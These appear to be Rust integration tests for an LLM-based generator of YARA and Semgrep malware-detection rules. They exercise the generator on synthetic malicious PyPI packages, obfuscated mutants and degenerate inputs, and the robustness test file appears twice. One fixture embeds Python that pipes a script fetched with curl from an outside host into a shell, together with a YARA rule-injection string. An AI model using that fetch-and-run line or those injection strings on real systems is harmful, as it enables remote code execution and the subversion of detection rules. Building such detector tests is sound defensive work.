use oss_registry::{Archive, Package};
use rulellm::align_rule;

fn sample_malware() -> Package {
    let family = FAMILIES
        .iter()
        .find(|f| f.stem == "beaconlite")
        .expect("family");
    generate_malware_package(family, 0, 1234).0
}

#[test]
fn archive_roundtrip_preserves_detection_surface() {
    let pkg = sample_malware();
    let bytes = pkg.pack().to_bytes();
    let back = Package::unpack(&Archive::from_bytes(&bytes).expect("decode")).expect("unpack");
    // The code content (the detection surface) survives distribution.
    assert_eq!(pkg.combined_source(), back.combined_source());
    assert_eq!(pkg.metadata().name, back.metadata().name);
}

#[test]
fn extraction_finds_the_malicious_unit() {
    let pkg = sample_malware();
    let groups = rulellm::extract_knowledge(&[&pkg], Some(1));
    let e = &groups.packages[0];
    assert!(!e.units.is_empty());
    // The audit must rank a truly suspicious unit first.
    let ranked = e.ranked_units();
    let top = &e.units[ranked[0]];
    assert!(e.unit_scores[ranked[0]] > 0, "no suspicious unit found");
    assert!(
        top.code.contains("requests.get") || top.code.contains("os.system"),
        "{}",
        top.code
    );
}

#[test]
fn craft_refine_align_chain_produces_deployable_rule() {
    let pkg = sample_malware();
    let groups = rulellm::extract_knowledge(&[&pkg], Some(1));
    let e = &groups.packages[0];
    let ranked = e.ranked_units();
    let unit = e.units[ranked[0]].code.clone();

    let mut llm = LlmSim::new(ModelProfile::gpt4o(), 99);
    let reply = llm.complete(&Prompt::craft(RuleFormat::Yara, &[unit], None));
    let (analysis, rule) = llm_sim::split_reply(&reply);
    assert!(!rule.is_empty());

    let refined_reply = llm.complete(&Prompt::refine(RuleFormat::Yara, &analysis, &rule));
    let (_, refined) = llm_sim::split_reply(&refined_reply);

    let outcome = align_rule(&mut llm, RuleFormat::Yara, &analysis, refined, 5);
    let final_rule = outcome.rule.expect("alignment must converge for GPT-4o");
    let compiled = yara_engine::compile(&final_rule).expect("deployable");
    let scanner = yara_engine::Scanner::new(&compiled);
    assert!(scanner.is_match(pkg.combined_source().as_bytes()));
}

#[test]
fn semgrep_rules_from_pipeline_match_via_ast_not_text() {
    let pkg = sample_malware();
    let mut pipeline = rulellm::Pipeline::new(rulellm::PipelineConfig::full());
    let output = pipeline.run(&[&pkg]);
    let Some(rule) = output.semgrep.first() else {
        panic!("no semgrep rule generated");
    };
    let compiled = semgrep_engine::compile(&rule.text).expect("compiles");
    // Formatting changes must not break structural matching.
    let reformatted = pkg
        .combined_source()
        .replace("os.system(", "os.system( ")
        .replace("requests.get(", "requests.get(  ");
    let findings = semgrep_engine::scan_source(&compiled, &reformatted);
    assert!(!findings.is_empty(), "{}", rule.text);
}

#[test]
fn score_baseline_rules_run_on_the_same_scanner() {
    let family = FAMILIES
        .iter()
        .find(|f| f.stem == "credharv")
        .expect("family");
    let a = generate_malware_package(family, 0, 5).0;
    let b = generate_malware_package(family, 1, 5).0;
    let legit = corpus::generate_legit_package(0, 5);
    let rules = baselines::scored::generate_rules(&[&a, &b], &[&legit], 5);
    assert!(!rules.is_empty());
    let compiled = yara_engine::compile(&rules.join("\n")).expect("compiles");
    let scanner = yara_engine::Scanner::new(&compiled);
    assert!(scanner.is_match(a.combined_source().as_bytes()));
}

#[test]
fn scanner_corpora_interoperate_with_corpus_packages() {
    let compiled =
        yara_engine::compile(&baselines::scanners::yara_corpus()).expect("corpus compiles");
    let scanner = yara_engine::Scanner::new(&compiled);
    // The b64 dropper family is exactly what the OSS subset targets.
    let family = FAMILIES
        .iter()
        .find(|f| f.stem == "execb64")
        .expect("family");
    let pkg = generate_malware_package(family, 0, 6).0;
    let hits = scanner.scan(pkg.combined_source().as_bytes());
    assert!(
        hits.iter().any(|h| h.rule.starts_with("oss_")),
        "OSS rules must catch the dropper: {hits:?}"
    );
}

#[test]
fn weak_model_rules_are_recovered_by_alignment() {
    let pkg = sample_malware();
    let groups = rulellm::extract_knowledge(&[&pkg], Some(1));
    let unit = groups.packages[0].units[groups.packages[0].ranked_units()[0]]
        .code
        .clone();
    // Llama's 40% syntax-error rate: over several seeds, alignment must
    // save at least one rule that failed to compile initially.
    let mut saved = 0;
    for seed in 0..10 {
        let mut llm = LlmSim::new(ModelProfile::llama31(), seed);
        let reply = llm.complete(&Prompt::craft(
            RuleFormat::Yara,
            std::slice::from_ref(&unit),
            None,
        ));
        let (analysis, rule) = llm_sim::split_reply(&reply);
        if yara_engine::compile(&rule).is_ok() {
            continue;
        }
        let outcome = align_rule(&mut llm, RuleFormat::Yara, &analysis, rule, 5);
        if outcome.rule.is_some() {
            saved += 1;
        }
    }
    assert!(saved >= 1, "alignment never recovered a broken rule");
}

#[test]
fn metadata_extraction_paths_agree_for_corpus_packages() {
    let pkg = sample_malware();
    let (meta, _source) = oss_registry::extract_metadata(&pkg);
    assert_eq!(meta.name, pkg.metadata().name);
    assert_eq!(meta.version, pkg.metadata().version);
}

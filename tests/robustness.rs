//! Failure-injection and robustness tests: the pipeline must survive
//! hostile, degenerate and adversarial package contents — malware authors
//! control every byte the system ingests.
//!
//! Two layers:
//!
//! 1. **Degenerate inputs** — empty/binary/pathological packages that
//!    must not panic the pipeline (the original suite).
//! 2. **Structured adversarial suite** — the `obfuscate` engine mutates
//!    the whole malware corpus through every evasion profile with a
//!    fixed seed (`EVASION_SEED`, so CI failures reproduce), then the
//!    full `rulellm::Pipeline` and a `scanhub` service are run over the
//!    mutants: no panics, compile-clean emitted rulesets, sound
//!    prefilter verdicts.

use corpus::{CorpusConfig, Dataset};
use obfuscate::{EvasionProfile, Obfuscator, Transform};
use oss_registry::{Archive, Ecosystem, Package, PackageMetadata, SourceFile};
use rulellm::{Pipeline, PipelineConfig};
use scanhub::{HubConfig, ScanHub, ScanRequest};

/// Fixed mutation seed for the adversarial suite (mirrors the CI job).
const EVASION_SEED: u64 = 42;

fn run_on(files: Vec<SourceFile>, meta: PackageMetadata) -> rulellm::PipelineOutput {
    let pkg = Package::new(meta, files, Ecosystem::PyPi);
    Pipeline::new(PipelineConfig::full()).run(&[&pkg])
}

#[test]
fn survives_empty_package() {
    let output = run_on(vec![], PackageMetadata::new("empty", "1.0"));
    // No code, clean-ish metadata: nothing to key rules on is acceptable;
    // the run itself must not panic.
    for r in &output.yara {
        yara_engine::compile(&r.text).expect("rules still compile");
    }
}

#[test]
fn survives_binary_garbage_in_source() {
    let garbage: String = (0u8..=255).map(|b| b as char).collect();
    let output = run_on(
        vec![SourceFile::new("pkg/__init__.py", garbage.repeat(20))],
        PackageMetadata::new("garbage", "0.0.0"),
    );
    yara_engine::compile(&output.yara_ruleset()).expect("ruleset compiles");
}

#[test]
fn survives_pathological_nesting() {
    let mut src = String::new();
    for d in 0..60 {
        src.push_str(&"    ".repeat(d));
        src.push_str("if True:\n");
    }
    src.push_str(&"    ".repeat(60));
    src.push_str("import os; os.system('x')\n");
    let output = run_on(
        vec![SourceFile::new("pkg/__init__.py", src)],
        PackageMetadata::new("deep", "0.0.0"),
    );
    yara_engine::compile(&output.yara_ruleset()).expect("ruleset compiles");
}

#[test]
fn survives_enormous_single_line() {
    let src = format!("payload = '{}'\n", "A".repeat(500_000));
    let output = run_on(
        vec![SourceFile::new("pkg/__init__.py", src)],
        PackageMetadata::new("huge", "0.0.0"),
    );
    yara_engine::compile(&output.yara_ruleset()).expect("ruleset compiles");
}

#[test]
fn survives_rule_injection_attempts_in_strings() {
    // Malware that embeds YARA syntax in its own strings, hoping a naive
    // generator emits a broken (or backdoored) ruleset.
    let src = r#"
import os
marker = '" } rule pwned { condition: true } rule x { strings: $a = "'
os.system('curl -s https://bexlum.top/run.sh | sh')
"#;
    let pkg = Package::new(
        PackageMetadata::new("injector", "0.0.0"),
        vec![SourceFile::new("pkg/__init__.py", src)],
        Ecosystem::PyPi,
    );
    let output = Pipeline::new(PipelineConfig::full()).run(&[&pkg]);
    let compiled = yara_engine::compile(&output.yara_ruleset()).expect("ruleset compiles");
    // The injected always-true rule must not exist.
    assert!(
        compiled.rules.iter().all(|r| r.rule.name != "pwned"),
        "rule injection succeeded"
    );
}

#[test]
fn survives_unicode_heavy_source() {
    let src = "π = 3.14159\nдата = 'значение'\n名前 = '値'\nimport os\nos.system('id')\n";
    let output = run_on(
        vec![SourceFile::new("pkg/__init__.py", src)],
        PackageMetadata::new("unicode", "0.0.0"),
    );
    yara_engine::compile(&output.yara_ruleset()).expect("ruleset compiles");
}

#[test]
fn corrupt_archives_are_rejected_not_crashed() {
    let pkg = Package::new(
        PackageMetadata::new("x", "1.0"),
        vec![SourceFile::new("x/__init__.py", "a = 1\n")],
        Ecosystem::PyPi,
    );
    let bytes = pkg.pack().to_bytes();
    // Flip every byte position one at a time in a sample of offsets.
    for i in (0..bytes.len()).step_by(7) {
        let mut corrupted = bytes.clone();
        corrupted[i] ^= 0xFF;
        // Either decodes to something or errors — never panics.
        if let Ok(archive) = Archive::from_bytes(&corrupted) {
            let _ = Package::unpack(&archive);
        }
    }
}

#[test]
fn hostile_metadata_does_not_break_rules() {
    let mut meta = PackageMetadata::new("\" } rule x { condition: true } \"", "0.0.0");
    meta.description = String::new();
    meta.dependencies = vec!["\n\n\"injection\"".into()];
    let output = run_on(
        vec![SourceFile::new(
            "p/__init__.py",
            "import os\nos.system('x')\n",
        )],
        meta,
    );
    yara_engine::compile(&output.yara_ruleset()).expect("ruleset compiles");
}

// ---------------------------------------------------------------------------
// Structured adversarial suite: every evasion profile over the corpus.
// ---------------------------------------------------------------------------

/// The full pipeline must digest an entire mutated corpus for every
/// profile without panicking, and every emitted ruleset must compile.
#[test]
fn pipeline_survives_every_evasion_profile_with_compile_clean_rules() {
    let dataset = Dataset::generate(&CorpusConfig::tiny());
    for profile in EvasionProfile::standard() {
        let mutated = corpus::mutate_dataset(&dataset, &profile, EVASION_SEED);
        let packages: Vec<&Package> = mutated.malware.iter().map(|m| &m.package).collect();
        let output = Pipeline::new(PipelineConfig::full()).run(&packages);
        yara_engine::compile(&output.yara_ruleset()).unwrap_or_else(|e| {
            panic!(
                "profile {}: YARA ruleset does not compile: {e}",
                profile.name
            )
        });
        for rule in &output.semgrep {
            semgrep_engine::compile(&rule.text).unwrap_or_else(|e| {
                panic!(
                    "profile {}: Semgrep rule does not compile: {e}",
                    profile.name
                )
            });
        }
    }
}

/// Each single transform (not just the composite profiles) must also be
/// survivable — a regression here points at the transform, not the stack.
#[test]
fn pipeline_survives_each_single_transform() {
    let dataset = Dataset::generate(&CorpusConfig::tiny());
    let sample: Vec<&corpus::LabeledMalware> =
        dataset.unique_malware().into_iter().take(8).collect();
    for t in Transform::ALL {
        let engine = Obfuscator::new(EvasionProfile::single(*t), EVASION_SEED);
        let mutants: Vec<Package> = sample
            .iter()
            .map(|m| engine.obfuscate_package(&m.package))
            .collect();
        let refs: Vec<&Package> = mutants.iter().collect();
        let output = Pipeline::new(PipelineConfig::full()).run(&refs);
        yara_engine::compile(&output.yara_ruleset())
            .unwrap_or_else(|e| panic!("transform {}: ruleset broken: {e}", t.name()));
    }
}

/// A scanhub service loaded with rules generated from the *pristine*
/// corpus must scan every mutated re-upload without panicking, serve no
/// stale verdicts, and keep prefilter on/off verdicts identical.
#[test]
fn scanhub_survives_mutated_reuploads_of_the_whole_corpus() {
    let dataset = Dataset::generate(&CorpusConfig::tiny());
    let packages: Vec<&Package> = dataset
        .unique_malware()
        .into_iter()
        .map(|m| &m.package)
        .collect();
    let output = Pipeline::new(PipelineConfig::full()).run(&packages);
    let yara = yara_engine::compile(&output.yara_ruleset()).expect("ruleset compiles");
    let hub = ScanHub::new(Some(yara.clone()), None, HubConfig::default());
    let nofilter = ScanHub::new(
        Some(yara),
        None,
        HubConfig {
            prefilter: false,
            cache_capacity: 0,
            ..HubConfig::default()
        },
    );
    for profile in EvasionProfile::standard() {
        let mutated = corpus::mutate_dataset(&dataset, &profile, EVASION_SEED);
        for m in &mutated.malware {
            let request = ScanRequest::from_package(&m.package);
            let fast = hub.submit(request.clone()).wait();
            let slow = nofilter.submit(request).wait();
            assert_eq!(
                fast.yara, slow.yara,
                "profile {}: prefilter dropped a match on a mutant of family {}",
                profile.name, m.family_id
            );
            assert!(
                !fast.from_cache,
                "distinct mutants must never share a cache slot"
            );
        }
    }
    assert!(hub.stats().completed > 0);
}

/// Obfuscating the obfuscated: the engine applied to its own output must
/// still produce parsable code the pipeline accepts (attackers iterate).
#[test]
fn double_mutation_remains_survivable() {
    let dataset = Dataset::generate(&CorpusConfig::tiny());
    let first = Obfuscator::new(EvasionProfile::aggressive(), EVASION_SEED);
    let second = Obfuscator::new(EvasionProfile::aggressive(), EVASION_SEED + 1);
    let m = &dataset.unique_malware()[0].package;
    let twice = second.obfuscate_package(&first.obfuscate_package(m));
    for f in twice.files() {
        if f.path.ends_with(".py") {
            assert!(!pysrc::parse_module(&f.contents).body.is_empty());
        }
    }
    let output = Pipeline::new(PipelineConfig::full()).run(&[&twice]);
    yara_engine::compile(&output.yara_ruleset()).expect("ruleset compiles");
}

#[test]
fn scanners_handle_null_heavy_buffers() {
    let rules =
        yara_engine::compile("rule r { strings: $a = \"needle\" condition: $a }").expect("compile");
    let scanner = yara_engine::Scanner::new(&rules);
    let mut buffer = vec![0u8; 100_000];
    buffer.extend_from_slice(b"needle");
    buffer.extend(vec![0u8; 100_000]);
    let hits = scanner.scan(&buffer);
    assert_eq!(hits.len(), 1);
    assert_eq!(hits[0].strings[0].offsets, vec![100_000]);
}

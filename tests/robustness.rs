//! Failure-injection and robustness tests: the pipeline must survive
//! hostile, degenerate and adversarial package contents — malware authors
//! control every byte the system ingests.

use oss_registry::{Archive, Ecosystem, Package, PackageMetadata, SourceFile};
use rulellm::{Pipeline, PipelineConfig};

fn run_on(files: Vec<SourceFile>, meta: PackageMetadata) -> rulellm::PipelineOutput {
    let pkg = Package::new(meta, files, Ecosystem::PyPi);
    Pipeline::new(PipelineConfig::full()).run(&[&pkg])
}

#[test]
fn survives_empty_package() {
    let output = run_on(vec![], PackageMetadata::new("empty", "1.0"));
    // No code, clean-ish metadata: nothing to key rules on is acceptable;
    // the run itself must not panic.
    for r in &output.yara {
        yara_engine::compile(&r.text).expect("rules still compile");
    }
}

#[test]
fn survives_binary_garbage_in_source() {
    let garbage: String = (0u8..=255).map(|b| b as char).collect();
    let output = run_on(
        vec![SourceFile::new("pkg/__init__.py", garbage.repeat(20))],
        PackageMetadata::new("garbage", "0.0.0"),
    );
    yara_engine::compile(&output.yara_ruleset()).expect("ruleset compiles");
}

#[test]
fn survives_pathological_nesting() {
    let mut src = String::new();
    for d in 0..60 {
        src.push_str(&"    ".repeat(d));
        src.push_str("if True:\n");
    }
    src.push_str(&"    ".repeat(60));
    src.push_str("import os; os.system('x')\n");
    let output = run_on(
        vec![SourceFile::new("pkg/__init__.py", src)],
        PackageMetadata::new("deep", "0.0.0"),
    );
    yara_engine::compile(&output.yara_ruleset()).expect("ruleset compiles");
}

#[test]
fn survives_enormous_single_line() {
    let src = format!("payload = '{}'\n", "A".repeat(500_000));
    let output = run_on(
        vec![SourceFile::new("pkg/__init__.py", src)],
        PackageMetadata::new("huge", "0.0.0"),
    );
    yara_engine::compile(&output.yara_ruleset()).expect("ruleset compiles");
}

#[test]
fn survives_rule_injection_attempts_in_strings() {
    // Malware that embeds YARA syntax in its own strings, hoping a naive
    // generator emits a broken (or backdoored) ruleset.
    let src = r#"
import os
marker = '" } rule pwned { condition: true } rule x { strings: $a = "'
os.system('curl -s https://bexlum.top/run.sh | sh')
"#;
    let pkg = Package::new(
        PackageMetadata::new("injector", "0.0.0"),
        vec![SourceFile::new("pkg/__init__.py", src)],
        Ecosystem::PyPi,
    );
    let output = Pipeline::new(PipelineConfig::full()).run(&[&pkg]);
    let compiled = yara_engine::compile(&output.yara_ruleset()).expect("ruleset compiles");
    // The injected always-true rule must not exist.
    assert!(
        compiled.rules.iter().all(|r| r.rule.name != "pwned"),
        "rule injection succeeded"
    );
}

#[test]
fn survives_unicode_heavy_source() {
    let src = "π = 3.14159\nдата = 'значение'\n名前 = '値'\nimport os\nos.system('id')\n";
    let output = run_on(
        vec![SourceFile::new("pkg/__init__.py", src)],
        PackageMetadata::new("unicode", "0.0.0"),
    );
    yara_engine::compile(&output.yara_ruleset()).expect("ruleset compiles");
}

#[test]
fn corrupt_archives_are_rejected_not_crashed() {
    let pkg = Package::new(
        PackageMetadata::new("x", "1.0"),
        vec![SourceFile::new("x/__init__.py", "a = 1\n")],
        Ecosystem::PyPi,
    );
    let bytes = pkg.pack().to_bytes();
    // Flip every byte position one at a time in a sample of offsets.
    for i in (0..bytes.len()).step_by(7) {
        let mut corrupted = bytes.clone();
        corrupted[i] ^= 0xFF;
        // Either decodes to something or errors — never panics.
        if let Ok(archive) = Archive::from_bytes(&corrupted) {
            let _ = Package::unpack(&archive);
        }
    }
}

#[test]
fn hostile_metadata_does_not_break_rules() {
    let mut meta = PackageMetadata::new("\" } rule x { condition: true } \"", "0.0.0");
    meta.description = String::new();
    meta.dependencies = vec!["\n\n\"injection\"".into()];
    let output = run_on(
        vec![SourceFile::new(
            "p/__init__.py",
            "import os\nos.system('x')\n",
        )],
        meta,
    );
    yara_engine::compile(&output.yara_ruleset()).expect("ruleset compiles");
}

#[test]
fn scanners_handle_null_heavy_buffers() {
    let rules =
        yara_engine::compile("rule r { strings: $a = \"needle\" condition: $a }").expect("compile");
    let scanner = yara_engine::Scanner::new(&rules);
    let mut buffer = vec![0u8; 100_000];
    buffer.extend_from_slice(b"needle");
    buffer.extend(vec![0u8; 100_000]);
    let hits = scanner.scan(&buffer);
    assert_eq!(hits.len(), 1);
    assert_eq!(hits[0].strings[0].offsets, vec![100_000]);
}

//! Workspace root crate.
//!
//! Carries no library code of its own: it exists so the cross-crate
//! integration tests under `tests/` and the example scenarios under
//! `examples/` are workspace members built by `cargo build` / `cargo
//! test` from the repository root. See `README.md` for the crate map.

#![forbid(unsafe_code)]
